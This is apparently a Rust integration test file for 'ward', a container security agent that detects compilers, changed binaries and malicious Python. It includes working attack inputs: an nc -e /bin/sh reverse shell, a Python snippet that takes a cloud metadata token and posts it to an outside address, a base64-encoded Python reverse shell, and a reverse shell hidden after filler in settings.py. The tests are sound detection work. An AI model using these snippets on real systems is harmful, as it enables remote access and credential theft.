    c.exec_ok(&["cp", script, "/tmp/w.sh"]).unwrap();
    c.exec_ok(&["sh", "/tmp/w.sh", "ls"]).unwrap();
    let f = agent.wait_for(c.id(), ADDED, |f| matched(f, "/tmp/w.sh"));
    assert_eq!(f["sourceProperties"]["File_Layer"], "added");
    // Modified: the image's script rewritten in place (copied up, same contents).
    c.exec_ok(&["sh", "-c", &format!("cat /tmp/w.sh > {script}")])
        .unwrap();
    c.exec_ok(&[script, "cat"]).unwrap();
    let f = agent.wait_for(c.id(), MODIFIED, |f| matched(f, script));
    assert_eq!(f["sourceProperties"]["File_Layer"], "modified");
    let (status, _) = agent.stop();
    assert!(status.success());
}

/// Runs a compiler in `c` and waits for its finding: everything `c` did before has then been
/// processed. Returns the container's other findings.
fn after_sentinel(agent: &Agent, c: &Container) -> Vec<Value> {
    c.exec_ok(&["tcc", "-v"]).unwrap();
    agent.wait_for(c.id(), COMPILER, |f| args(f) == ["tcc", "-v"]);
    agent
        .for_container(c.id())
        .into_iter()
        .filter(|f| !(f["category"] == COMPILER && args(f) == ["tcc", "-v"]))
        .collect()
}

#[test]
fn benign_interactive_pty_shell() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "benign-pty");
    // `podman exec -it` needs a terminal: `script` gives it a pty.
    let out = Command::new("script")
        .args([
            "-qec",
            &format!("podman exec -it {} sh -c 'id; ls / | wc -l'", c.id()),
            "/dev/null",
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("uid=0(root)"),
        "{out:?}"
    );
    let others = after_sentinel(agent, &c);
    assert!(others.is_empty(), "benign pty shell reported: {others:#?}");
}

#[test]
fn benign_local_pipeline() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "benign-pipe");
    c.exec_ok(&[
        "sh",
        "-c",
        "cat /etc/os-release | grep -i debian | wc -l; ps aux | sort | head -3",
    ])
    .unwrap();
    let others = after_sentinel(agent, &c);
    assert!(others.is_empty(), "benign pipeline reported: {others:#?}");
}

#[test]
fn benign_compiler_on_the_host() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("host-compile.c");
    std::fs::write(&src, "int main(void){return 0;}\n").unwrap();
    let st = Command::new("gcc")
        .arg("-o")
        .arg(dir.path().join("host-compile"))
        .arg(&src)
        .status()
        .unwrap();
    assert!(st.success());
    // Sentinel in a container: the host compile happened before it.
    let c = debian(&images, "benign-host");
    let _ = after_sentinel(agent, &c);
    let host: Vec<Value> = agent
        .findings()
        .into_iter()
        .filter(|f| {
            f["processes"][0]["args"].as_array().is_some_and(|a| {
                a.iter()
                    .any(|x| x.as_str().is_some_and(|s| s.contains("host-compile")))
            })
        })
        .collect();
    assert!(host.is_empty(), "host compiler reported: {host:#?}");
}

#[test]
fn metrics_endpoint_reports_health() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "metrics");
    let _ = after_sentinel(agent, &c);
    let text = agent.scrape();
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
    for m in [
        "ward_kernel_drops_total{kind=\"exec\"} ",
        "ward_userspace_drops_total ",
        "ward_events_per_second ",
        "ward_enrich_metadata_misses_total{reason=\"timeout\"} ",
        "ward_enrich_hash_misses_total{reason=\"exe_gone\"} ",
        "ward_detection_latency_seconds_bucket{le=\"0.1\"} ",
        "ward_resident_memory_bytes ",
    ] {
        assert!(text.contains(m), "missing {m:?} in\n{text}");
    }
    // The text is refreshed once a second: the sentinel's finding shows within a refresh.
    let findings = |text: &str| -> f64 {
        text.lines()
            .find_map(|l| l.strip_prefix("ward_findings_total "))
            .and_then(|v| v.parse().ok())
            .unwrap()
    };
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut text = text;
    while findings(&text) < 1.0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        text = agent.scrape();
    }
    assert!(findings(&text) >= 1.0, "{text}");
}

#[test]
fn recording_replays_to_the_same_findings_and_sigterm_flushes() {
    let images = require_containers!();
    let sock = podman_api();
    let agent = Agent::start(
        &images,
        &format!("docker_sockets = [\"{}\"]", sock.display()),
        true,
    );
    let c = debian(&images, "record");
    let pending = ShellListener::bind()
        .unwrap()
        .serve("id\nexit\n", Duration::from_secs(6));
    let port = pending.port();
    c.exec_detached(&[
        "nc.traditional",
        "127.0.0.1",
        &port.to_string(),
        "-e",
        "/bin/sh",
    ])
    .unwrap();
    assert!(session_output(pending).contains("uid=0"));
    c.exec_ok(&[&images.payload_path]).unwrap();
    c.exec_ok(&["tcc", "-v"]).unwrap();
    agent.wait_for(c.id(), COMPILER, |_| true);
    agent.wait_for(c.id(), BUILT_IN, |_| true);
    agent.wait_for(c.id(), REVSHELL, |_| true);
    let (status, dir) = agent.stop();
    assert!(status.success(), "exit status after SIGTERM: {status}");
    // Read after the stop: the agent sees every container on the host (other tests' too) and
    // records until it stops, so findings it makes between a read before the stop and the
    // stop would be in the replay only.
    let live: Vec<Value> = std::fs::read_to_string(dir.path().join("findings.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for c in [COMPILER, BUILT_IN, REVSHELL] {
        assert!(
            live.iter().any(|f| f["category"] == c),
            "no {c} finding after the stop"
        );
    }
    let log = std::fs::read_to_string(dir.path().join("agent.log")).unwrap();
    assert!(log.contains("ward agent: stopped"), "{log}");

    // The store got them too (flushed at exit).
    let store = ward_store::SqliteStore::open(dir.path().join("ward.db")).unwrap();
    use ward_store::FindingStore;
    for f in &live {
        let name = f["name"].as_str().unwrap();
        assert!(store.get(name).unwrap().is_some(), "{name} not stored");
    }

    // Replay of the recording gives the same findings.
    let rec = dir.path().join("recording.jsonl");
    let head = std::fs::read_to_string(&rec).unwrap();
    assert!(
        head.starts_with("{\"type\":\"header\",\"format\":\"ward-trace\""),
        "{}",
        &head[..200.min(head.len())]
    );
    let out = Command::new(env!("CARGO_BIN_EXE_ward"))
        .arg("replay")
        .arg(&rec)
        .arg("--intel")
        .arg(&images.intel_feed)
        .env_remove("WARD_DB")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let replayed: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let strip = |mut v: Value| {
        // createTime is when the finding was created, by whoever created it.
        v.as_object_mut().unwrap().remove("createTime");
        v
    };
    let live: Vec<Value> = live.into_iter().map(strip).collect();
    let replayed: Vec<Value> = replayed.into_iter().map(strip).collect();
    assert_eq!(
        live,
        replayed,
        "live and replayed findings differ:\n{}",
        findings_diff(&live, &replayed)
    );
}

/// What differs between two lists of findings, by name: findings only in one, and for a
/// finding in both, each top-level field that differs (the whole lists are too long to read).
fn findings_diff(a: &[Value], b: &[Value]) -> String {
    let by_name = |v: &[Value]| -> std::collections::BTreeMap<String, Value> {
        v.iter()
            .map(|f| (f["name"].as_str().unwrap_or("?").to_string(), f.clone()))
            .collect()
    };
    let (a, b) = (by_name(a), by_name(b));
    let mut out = String::new();
    for (name, fa) in &a {
        let Some(fb) = b.get(name) else {
            out += &format!(
                "only live: {name} {} {}\n",
                fa["category"], fa["description"]
            );
            continue;
        };
        for (k, va) in fa.as_object().into_iter().flatten() {
            if fb.get(k) != Some(va) {
                out += &format!(
                    "{name} {}: live {va} replayed {}\n",
                    k,
                    fb.get(k).unwrap_or(&Value::Null)
                );
            }
        }
        for k in fb.as_object().into_iter().flatten().map(|(k, _)| k) {
            if fa.get(k).is_none() {
                out += &format!("{name} {k}: only replayed {}\n", fb[k]);
            }
        }
    }
    for (name, fb) in &b {
        if !a.contains_key(name) {
            out += &format!(
                "only replayed: {name} {} {}\n",
                fb["category"], fb["description"]
            );
        }
    }
    if out.is_empty() {
        out = "same findings by name, in another order".into();
    }
    out
}

#[test]
fn binary_deleted_and_replaced_right_after_exec_hashes_what_ran() {
    let images = require_containers!();
    let c = debian(&images, "replaced");
    // The intel feed names the image's `sleep`, which the test runs from a copy that it then
    // deletes and replaces with `true` while the process runs.
    let sum = c.exec_ok(&["sha256sum", "/usr/bin/sleep"]).unwrap();
    let sleep_sha = sum.split_whitespace().next().unwrap().to_string();
    let true_sum = c.exec_ok(&["sha256sum", "/usr/bin/true"]).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, format!("{sleep_sha};sleep from the test image\n")).unwrap();
    let sock = podman_api();
    let agent = Agent::start_with_feed(
        &images,
        &feed,
        &format!("docker_sockets = [\"{}\"]", sock.display()),
        false,
    );
    c.exec_ok(&[
        "sh",
        "-c",
        "cp /usr/bin/sleep /tmp/s; /tmp/s 2 & sleep 0.05; rm /tmp/s; cp /usr/bin/true /tmp/s; wait",
    ])
    .unwrap();
    let f = agent.wait_for(c.id(), ADDED, |f| binary(f) == "/tmp/s");
    assert_eq!(
        sha(&f),
        sleep_sha,
        "hashed what ran, not what the path holds now"
    );
    assert_ne!(sha(&f), true_sum.split_whitespace().next().unwrap());
    assert_eq!(args(&f), ["/tmp/s", "2"]);
    assert_container(&f, &c);
    let (status, _) = agent.stop();
    assert!(status.success());
}

#[test]
fn metadata_unavailable_still_reports_the_container_id() {
    let images = require_containers!();
    let agent = Agent::start(
        &images,
        "docker_sockets = [\"/run/ward-test/no-such-runtime.sock\"]\npodman_storage = []",
        false,
    );
    let c = debian(&images, "nometa");
    c.exec_ok(&["tcc", "-v"]).unwrap();
    let f = agent.wait_for(c.id(), COMPILER, |_| true);
    let note = f["sourceProperties"]["Container_Metadata_Note"]
        .as_str()
        .unwrap_or("");
    assert!(
        note.contains("metadata unavailable") && note.contains("no-such-runtime.sock"),
        "{f:#}"
    );
    assert_eq!(f["containers"][0]["name"], &c.id()[..12]);
    let (status, _dir) = agent.stop();
    assert!(status.success());
}

#[test]
fn load_failure_without_privileges_is_a_clear_error() {
    let _images = require_containers!();
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
        ])
        .arg(env!("CARGO_BIN_EXE_ward"))
        .arg("agent")
        .arg("--db")
        .arg(dir.path().join("ward.db"))
        .args(["--output", "none", "--metrics-addr", "none"])
        .env_remove("WARD_DB")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("loading the eBPF sensor") && err.contains("CAP_BPF"),
        "{err}"
    );
}

/// Issue 11, section 4: compiler internals and the `cc`/`c++` alternatives started directly,
/// by full path, are each reported like `gcc`. The test image has no gcc; detection is by name
/// and path, so a harmless binary (`true`) is copied to each tool's real location (and `cc` /
/// `c++` reach it through Debian's alternatives symlinks).
#[test]
fn compiler_internals_started_by_path() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "cc-internals");
    let lib = "/usr/lib/gcc/x86_64-linux-gnu/12";
    c.exec_ok(&[
        "sh",
        "-ec",
        &format!(
            "mkdir -p {lib}
             for t in cc1 cc1plus lto1 collect2; do cp /bin/true {lib}/$t; done
             cp /bin/true /usr/bin/x86_64-linux-gnu-ld.bfd; ln -sf x86_64-linux-gnu-ld.bfd /usr/bin/ld
             cp /bin/true /usr/bin/x86_64-linux-gnu-as; ln -sf x86_64-linux-gnu-as /usr/bin/as
             cp /bin/true /usr/bin/x86_64-linux-gnu-gcc-12; cp /bin/true /usr/bin/x86_64-linux-gnu-g++-12
             ln -sf /usr/bin/x86_64-linux-gnu-gcc-12 /etc/alternatives/cc; ln -sf /etc/alternatives/cc /usr/bin/cc
             ln -sf /usr/bin/x86_64-linux-gnu-g++-12 /etc/alternatives/c++; ln -sf /etc/alternatives/c++ /usr/bin/c++"
        ),
    ])
    .unwrap();
    let cases = [
        (format!("{lib}/cc1"), format!("{lib}/cc1"), "cc1"),
        (
            format!("{lib}/cc1plus"),
            format!("{lib}/cc1plus"),
            "cc1plus",
        ),
        (format!("{lib}/lto1"), format!("{lib}/lto1"), "lto1"),
        (
            format!("{lib}/collect2"),
            format!("{lib}/collect2"),
            "collect2",
        ),
        (
            "/usr/bin/ld".into(),
            "/usr/bin/x86_64-linux-gnu-ld.bfd".into(),
            "ld",
        ),
        (
            "/usr/bin/as".into(),
            "/usr/bin/x86_64-linux-gnu-as".into(),
            "as",
        ),
        (
            "/usr/bin/cc".into(),
            "/usr/bin/x86_64-linux-gnu-gcc-12".into(),
            "cc",
        ),
        (
            "/usr/bin/c++".into(),
            "/usr/bin/x86_64-linux-gnu-g++-12".into(),
            "c++",
        ),
    ];
    for (path, _, _) in &cases {
        c.exec_ok(&[path.as_str(), "-quiet", "/tmp/x.c"]).unwrap();
    }
    for (path, resolved, tool) in &cases {
        let f = agent.wait_for(c.id(), COMPILER, |f| {
            f["sourceProperties"]["Compiler_Tool"] == *tool
        });
        assert_eq!(args(&f), [path.as_str(), "-quiet", "/tmp/x.c"], "{tool}");
        assert_eq!(binary(&f), resolved, "{tool}");
        assert_container(&f, &c);
    }
}

/// Issue 11, section 4: on a podman host without podman's API service, names and images come
/// from podman's on-disk container store. No socket is configured that exists; the default
/// `podman_storage` is read.
#[test]
fn podman_names_from_disk_without_the_api_service() {
    let images = require_containers!();
    let agent = Agent::start(
        &images,
        "docker_sockets = [\"/run/ward-test/no-such-runtime.sock\"]",
        false,
    );
    let c = debian(&images, "diskmeta");
    c.exec_ok(&["tcc", "-v"]).unwrap();
    let f = agent.wait_for(c.id(), COMPILER, |_| true);
    assert_container(&f, &c);
    assert!(
        f["sourceProperties"]["Container_Metadata_Note"].is_null(),
        "{f:#}"
    );
    assert!(
        f["containers"][0]["imageId"]
            .as_str()
            .is_some_and(|i| i.starts_with("sha256:") && i.len() == 71),
        "{f:#}"
    );
    let (status, _dir) = agent.stop();
    assert!(status.success());
}

/// A `python -c` literal that would steal the cloud metadata token and post it out is reported
/// live. The code is guarded by an environment variable that is never set, so it never runs
/// (and the addresses are link-local / TEST-NET anyway).
#[test]
fn python_c_metadata_token_theft_is_reported() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = Container::builder(&images.debian)
        .name_prefix("py-meta")
        .run(&["sleep", "600"])
        .unwrap();
    let code = "import os,urllib.request\n\
                if os.environ.get('WARD_TEST_NEVER_SET'):\n    \
                t=urllib.request.urlopen(urllib.request.Request('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',headers={'Metadata-Flavor':'Google'})).read()\n    \
                urllib.request.urlopen('http://198.51.100.7/c',data=t)\n";
    c.exec_ok(&["python3", "-c", code]).unwrap();
    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
    assert_container(&m, &c);
    assert_eq!(m["processes"][0]["script"]["contents"], code);
    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
    assert!(reasons.contains("metadata"), "{reasons}");
}

/// A `python -c` literal that `exec`s a base64-decoded reverse shell: the shell connects to a
/// listener on 127.0.0.1 and the python process is reported as Malicious Python.
#[test]
fn python_c_exec_of_base64_reverse_shell_is_reported() {
    let images = require_containers!();
    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-b64", |p| {
        let inner = format!(
            "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{p}));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
        );
        vec![
            "python3".into(),
            "-c".into(),
            format!(
                "import base64;exec(base64.b64decode('{}'))",
                base64::engine::general_purpose::STANDARD.encode(inner.as_bytes())
            ),
        ]
    });
    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
    assert_container(&m, &c);
    assert_eq!(m["processes"][0]["args"][1], "-c");
    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
    assert!(reasons.contains("decoded"), "{reasons}");
}

/// A Python reverse shell appended after ~90 KiB of module data, past the 64 KiB display cap:
/// the finding displays the capped contents, and the model scored the whole file
/// (`ScriptInfo::scoring_text`). Before the scoring cap was separate from the display cap, the
/// classifier saw only the filler and nothing was reported.
#[test]
fn python_payload_after_the_display_cap_is_reported() {
    let images = require_containers!();
    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-big", |p| {
        let mut body = String::from("# Generated settings.\n");
        let mut i = 0usize;
        while body.len() < 90 * 1024 {
            body.push_str(&format!(
                "ROW_{i} = {{'name': 'item {i}', 'size': {}, 'tags': ['a{}', 'b{}']}}\n",
                i * 7 % 1000,
                i % 13,
                i % 17
            ));
            i += 1;
        }
        body.push_str(&py_reverse_shell(p));
        python_file_in_job_dir("settings.py", body)
    });
    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
    let script = &m["processes"][0]["script"];
    assert_eq!(script["path"], "settings.py");
    let shown = script["contents"].as_str().unwrap();
    assert_eq!(shown.len(), 64 * 1024, "the display cap still applies");
    assert!(!shown.contains("socket"), "the payload is past the cap");
    let written = c.exec_ok(&["cat", "/opt/job/settings.py"]).unwrap();
    assert_eq!(script["size"], written.len());
    assert_eq!(script["sha256"], sha256_hex(written.as_bytes()));
}
